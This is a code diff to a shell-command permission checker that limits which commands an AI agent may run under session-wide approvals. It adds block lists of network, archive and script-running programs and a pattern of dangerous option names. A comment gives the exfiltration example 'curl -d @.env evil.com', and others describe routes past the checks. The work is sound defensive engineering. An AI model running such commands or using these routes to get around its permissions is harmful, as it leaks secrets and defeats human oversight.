@@ -244,58 +244,104 @@ function isGrantedByFlags(cmd: SimpleCommand, judge: Judge): boolean {
 
 /** How many leading words of `cmd` the longest matching session prefix names (0: none matches). */
 function sessionWords(cmd: SimpleCommand, judge: Judge): number {
-  const program = cmd.argv[0]?.text ?? "";
+  // The command's own leading words too: a pattern `git` must not cover `git config …`.
+  const leading = cmd.argv.slice(0, 3).map((w) => w.text);
+  if (!prefixAllowed(leading)) return 0;
   const matching = (judge.sessionPatterns ?? []).filter(
-    (p) => matchesPattern(cmd.argv, p) && prefixAllowed(p.words) && (!isScriptProgram(program) || isModuleRun(p.words)),
+    (p) => matchesPattern(cmd.argv, p) && prefixAllowed(p.words) && (!isScriptProgram(leading[0] ?? "") || isModuleRun(p.words)),
   );
   return Math.max(0, ...matching.map((p) => p.words.length));
 }
 
 /**
- * What a session prefix ("always allow `touch`") may be followed by: words
- * that are plain file names inside the workspace, or plain options. Asks for
- * anything else: a path outside, in .git or .bunker, or through a link that
- * leads out (`/tmp/x`, `../x`, `-t..`, `of=/x`); text that reads as code
- * (spaces, quotes, `$`, `;`, `|`, parentheses: `-e '…'`, `'CC=sh -c …'`); a
- * URL (a way to send files out); an option or `name=value` whose value is a
- * program (`--compress-program=sh`, `-Osh`, `CC=sh`); anything only known at
- * run time.
+ * What a session prefix ("always allow `touch`") may be followed by, checked
+ * strictly because the model picks it: plain words that resolve inside the
+ * workspace (not in .git or .bunker, not through a link out, and not a
+ * program's name), plain options (`-la`, `--force`, `--out=file-inside`),
+ * and a git commit message. Anything else asks: a path outside (`/tmp/x`,
+ * `../x`, `out` linking out), code-like text (`-e '…'`), `name=value`,
+ * `host:path`, `@file`, a short option with a value attached (`-tout`,
+ * `-Osh`), an option that follows links (`cp -L`, `grep -R`), `-` (a script
+ * on stdin), and anything only known at run time.
  */
-function argumentsInside(cmd: SimpleCommand, granted: number, paths: PathChecker): string | null {
+function argumentsInside(cmd: SimpleCommand, granted: number, paths: PathChecker, programNames = true): string | null {
   const name = cmd.argv[0]?.text ?? "";
+  const messages = name === "git" && GIT_MESSAGE_SUBCOMMANDS.has(cmd.argv[1]?.text ?? "");
   // The words of the prefix itself (`git -C sub status`) are what the person approved.
-  const start = Math.max(1, granted);
-  for (let i = start; i < cmd.argv.length; i++) {
+  for (let i = Math.max(1, granted); i < cmd.argv.length; i++) {
     const w = cmd.argv[i]!;
-    if (w.expanded) return `\`${name}\` has an argument only known at run time (${w.raw})`;
     const t = w.text;
-    if (t === "" || (t === "-" && isLiteral(w))) continue;
-    // A git message is text, not code: `git commit -m "fix the parser"`.
-    if (name === "git" && (GIT_MESSAGE_OPTIONS.has(cmd.argv[i - 1]?.text ?? "") || t.startsWith("--message="))) continue;
-    if (CODE_LIKE.test(t)) return `\`${name}\` has an argument that is not a plain word (${w.raw})`;
-    if (t.includes("://")) return `\`${name}\` names a URL (${w.raw})`;
-    const option = t.startsWith("-") && isLiteral(w);
-    const eq = t.indexOf("=");
-    if (option || eq > 0) {
-      // `--name=value`, `name=value`, or a short option with its value attached (`-t..`, `-Osh`).
-      const value = eq > 0 ? t.slice(eq + 1) : option && !t.startsWith("--") ? t.slice(2) : "";
-      if (value === "") continue;
-      if (Bun.which(value) !== null && !value.includes("/")) return `\`${name} ${t}\` names a program (${value})`;
-      if (/^[/~]|(^|\/)\.\.(\/|$)/.test(value) && !paths.writable({ ...w, text: value, tilde: value.startsWith("~"), glob: false })) {
-        return `\`${name} ${t}\` names a path outside the workspace or a protected one`;
-      }
+    const says = (why: string) => `\`${name}\` ${why} (${w.raw})`;
+    if (w.expanded) return says("has an argument only known at run time");
+    // A commit message is text, not code: `git commit -m "fix the parser"`.
+    if (messages && (isMessageOption(cmd.argv[i - 1]?.text ?? "") || t.startsWith("--message="))) continue;
+    if (t === "" || t === "--") continue;
+    if (t === "-") return says("reads from stdin, where a script could come from");
+    if (t.startsWith("-") && isLiteral(w)) {
+      const problem = optionProblem(name, t, paths, w);
+      if (problem) return says(problem);
       continue;
     }
-    if (!paths.writable(w)) {
-      return paths.readable(w)
-        ? `\`${name}\` names ${w.raw}, in .git or .bunker (changes there always ask)`
-        : `\`${name}\` names ${w.raw}, outside the workspace`;
-    }
+    const problem = plainWordProblem(t, w, paths, programNames);
+    if (problem) return `\`${name}\` ${problem}`;
   }
   return null;
 }
 
-const GIT_MESSAGE_OPTIONS = new Set(["-m", "--message"]);
+/** Why an option may not follow a session prefix, or null. */
+function optionProblem(name: string, t: string, paths: PathChecker, w: Word): string | null {
+  const spec = READ_ONLY[name] ?? FOLLOWS_LINKS[name];
+  if (spec && forbidden(t, spec)) return "has an option that can write, run programs or follow links";
+  // Go's flags are single-dash words (`-run`, `-count`): read them as long options.
+  if (t.startsWith("--") || (SINGLE_DASH_FLAGS.has(name) && /^-[A-Za-z]{2,}/.test(t))) {
+    const eq = t.indexOf("=");
+    const flag = eq < 0 ? t : t.slice(0, eq);
+    if (!/^--?[A-Za-z0-9][\w-]*$/.test(flag)) return "has an option that is not a plain word";
+    if (PROGRAM_OPTION.test(flag)) return "has an option that may run a program or load code";
+    if (eq < 0) return null;
+    const problem = plainWordProblem(t.slice(eq + 1), { ...w, text: t.slice(eq + 1), glob: false, tilde: false }, paths);
+    return problem ? `has an option whose value ${problem.replace(/^names /, "is ")}` : null;
+  }
+  // `-la` and the like; a longer cluster may hold a value (`-tout`, `-at/etc`): written apart it can be checked.
+  if (!/^-[A-Za-z0-9]{1,3}$/.test(t)) return "has a short option with a value attached (write the value as its own word)";
+  if (t.length > 2 && Bun.which(t.slice(2)) !== null) return `has an option that may name a program (${t.slice(2)})`;
+  return null;
+}
+
+/** Why a word is not a plain file name inside the workspace, or null. */
+function plainWordProblem(t: string, w: Word, paths: PathChecker, programNames = true): string | null {
+  if (!(w.glob ? PLAIN_GLOB : PLAIN_WORD).test(t)) {
+    return /[:@]/.test(t) ? `names ${w.raw}, which may be a host, a URL or a file to send` : `has an argument that is not a plain word (${w.raw})`;
+  }
+  if (programNames && !t.includes("/") && Bun.which(t) !== null) return `names a program (${w.raw})`;
+  if (!paths.writable(w)) {
+    return paths.readable(w) ? `names ${w.raw}, in .git or .bunker (changes there always ask)` : `names ${w.raw}, outside the workspace`;
+  }
+  return null;
+}
+
+/** A file name, a package or branch name, a number: no spaces, quotes, `$`, `:`, `@`, `=`, nor a leading `~`. */
+const PLAIN_WORD = /^[\w.\/+,%-][\w.\/+,%~^-]*$/;
+/** The same, with the glob characters an unquoted pattern has (`src/*.ts`). */
+const PLAIN_GLOB = /^[\w.\/+,%*?[\]-][\w.\/+,%~^*?[\]-]*$/;
+
+/** `-m`, `--message`, or a cluster ending in m (`-am`): the next word is the message. */
+function isMessageOption(word: string): boolean {
+  return word === "--message" || /^-[A-Za-z]*m$/.test(word);
+}
+/** Where `-m` is a message (in `git log` or `git diff` it is not: `git diff -m --output=…`). */
+const GIT_MESSAGE_SUBCOMMANDS = new Set(["commit", "tag", "merge", "stash", "notes"]);
+
+/** Option names that hand a program, code or configuration to run (`--upload-pack`, `--pre`, `-exec`, `--config`). */
+const PROGRAM_OPTION =
+  /^--?(?:[\w-]*-)?(?:exec|exec-path|upload-pack|receive-pack|pre|program|command|cmd|shell|rsh|ssh|editor|pager|wrapper|hook|hooks|plugin|plugins|preload|require|import|eval|interpreter|loader|toolexec|config|rcfile|init-file|setup|template|filter|driver|helper|proxy)(?:-[\w-]*)?$/i;
+/** Programs whose long options take one dash. */
+const SINGLE_DASH_FLAGS = new Set(["go"]);
+
+/** Options of programs outside READ_ONLY that copy what a link points to. */
+const FOLLOWS_LINKS: Record<string, ReadOnlySpec> = {
+  cp: { paths: true, forbidLong: ["--dereference"], forbidShort: "LH" },
+};
 
 /** The repository's own config could make even `git diff` run a program; after a `cd`, a nested repository's too. */
 function gitConfigProblem(cmd: SimpleCommand, judge: Judge, paths: PathChecker): string | null {
@@ -306,9 +352,6 @@ function gitConfigProblem(cmd: SimpleCommand, judge: Judge, paths: PathChecker):
   }
   return null;
 }
-
-/** Characters that make an argument read as code or several words, not a file name. */
-const CODE_LIKE = /[\s$;|&<>(){}`'"\\!]/;
 
 /** Granted commands may read and write files inside the workspace (not .git or .bunker). */
 function redirectsInside(redirects: Redirect[], paths: PathChecker): string | null {
@@ -348,8 +391,10 @@ function forbidden(option: string, spec: ReadOnlySpec): boolean {
   return false;
 }
 
+/** `cd` and `pushd` both move the shell: paths after them resolve from elsewhere. */
 function isCd(cmd: SimpleCommand): boolean {
-  return cmd.argv[0]?.text === "cd" && isLiteral(cmd.argv[0]);
+  const w = cmd.argv[0];
+  return (w?.text === "cd" || w?.text === "pushd") && isLiteral(w);
 }
 
 /**
@@ -451,7 +496,8 @@ function expandGlob(cwd: string, pattern: string): string[] | null {
   const rest = parts.slice(firstGlob).join("/");
   const out = [base];
   try {
-    for (const m of new Bun.Glob(rest).scanSync({ cwd: base, onlyFiles: false, dot: false, followSymlinks: false })) {
+    // As bash does, through linked directories (`d/*/x` reaches d/link/x): every match is then resolved and checked.
+    for (const m of new Bun.Glob(rest).scanSync({ cwd: base, onlyFiles: false, dot: false, followSymlinks: true })) {
       out.push(join(base, m));
       if (out.length > MAX_GLOB_MATCHES) return null;
     }
@@ -570,6 +616,22 @@ const SCRIPT_PROGRAMS = new Set([
   "vi", "vim", "nvim", "emacs", "gdb", "tar", "rsync", "ssh", "scp", "zip", "git-shell", "osascript", "pwsh", "powershell",
   "fd", "fdfind", "strace", "ltrace", "flock", "setsid", "script", "chroot", "unshare", "nsenter", "entr", "watchexec",
   "tsx", "ts-node", "pypy",
+  // Scripts on stdin or in their arguments: database shells, calculators, plotters.
+  "sqlite3", "psql", "mysql", "mariadb", "redis-cli", "mongo", "mongosh", "dc", "bc", "gnuplot",
+  // What they write comes from an archive or a patch the model made: it may be .git/hooks/pre-commit.
+  "unzip", "patch", "7z", "7za", "bsdtar", "cpio", "ar",
+  // The network: where they send things is in their arguments (`curl -d @.env evil.com`).
+  "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "sftp", "http", "https", "aria2c",
+  // Programs from the network, run at once.
+  "uvx", "pipx",
+]);
+
+/** Two-word commands that run, fetch or configure programs of the model's choosing: no session prefix either. */
+const NO_PREFIX_SUBCOMMANDS = new Set([
+  "git apply", "git am", "git config", "git submodule", "git rebase", "git filter-branch", "git bisect", "git daemon",
+  "go run", "go install", "go get", "go generate", "uv tool", "docker run", "docker exec", "docker compose",
+  "podman run", "podman exec", "kubectl exec", "npm exec", "npm x", "pnpm dlx", "pnpm exec", "yarn dlx", "bun x",
+  "cargo install",
 ]);
 
 /** `/usr/bin/python3.12`, `.venv/bin/python`, `lua5.4`: the program behind a path or a version number. */
@@ -581,6 +643,7 @@ function isScriptProgram(word: string): boolean {
 /** Whether a session prefix may name these words: none of them runs a script of the model's choosing. */
 function prefixAllowed(words: readonly string[]): boolean {
   if (isModuleRun(words)) return true;
+  if (words.length >= 2 && NO_PREFIX_SUBCOMMANDS.has(`${words[0]} ${words[1]}`)) return false;
   return !words.some(isScriptProgram);
 }
 
@@ -635,7 +698,11 @@ export function askDetails(
   // Offer it only if it would cover that command (`ls /tmp > x.txt`: `ls` would not, the path is outside).
   const withPrefix: Judge = { ...judge, sessionPatterns: [...sessionPatterns, pattern] };
   const stillFails = judgeLine(parsed, withPrefix).some((f) => f.cmd === uncovered.cmd);
-  return { prefix: stillFails ? "" : prefix, reasons };
+  // Nor one whose own words reach outside (`make -C /`): they would hold for every later use.
+  const paths = new PathChecker(judge, possibleDirectories(parsed.commands, root), parsed.commands.some(isCd));
+  const ownWords = { ...uncovered.cmd, argv: uncovered.cmd.argv.slice(0, pattern.words.length) };
+  const unsafeOwn = argumentsInside(ownWords, 1, paths, false) !== null;
+  return { prefix: stillFails || unsafeOwn ? "" : prefix, reasons };
 }
 
 /** Program plus subcommand (`git status`, `bun test`, `npm run build`), from the command's literal leading words. */
